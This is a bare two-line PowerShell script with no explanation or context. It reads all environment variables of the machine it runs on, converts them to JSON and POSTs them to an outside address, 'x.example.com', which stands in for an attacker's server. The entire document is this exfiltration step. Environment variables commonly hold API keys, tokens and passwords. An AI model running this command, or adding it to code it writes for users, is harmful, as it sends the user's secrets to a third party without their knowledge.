$e = Get-ChildItem Env: | ConvertTo-Json
Invoke-RestMethod -Uri 'https://x.example.com/e' -Method Post -Body $e
